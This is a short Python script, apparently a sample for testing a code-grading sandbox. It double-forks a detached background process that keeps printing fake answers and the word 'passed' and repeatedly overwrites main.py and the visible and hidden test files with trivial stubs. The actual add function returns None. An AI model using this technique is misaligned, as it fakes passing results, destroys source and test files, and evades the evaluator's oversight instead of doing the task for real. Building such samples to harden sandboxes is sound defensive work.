# Leaves processes behind that go on printing, and changing files, after it has ended.
import os
import sys
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            for line in ("42\n", "35579\n", "passed\n"):
                try:
                    os.write(1, line.encode())
                except OSError:
                    pass
            for name in ("main.py", "test_add.py", "test_hidden.py"):
                try:
                    with open(f"/code/{name}", "w") as file:
                        file.write("def add(a, b): return None\ndef test_small(): pass\n")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)


def add(a, b):
    return None


if __name__ == "__main__":
    sys.exit(0)
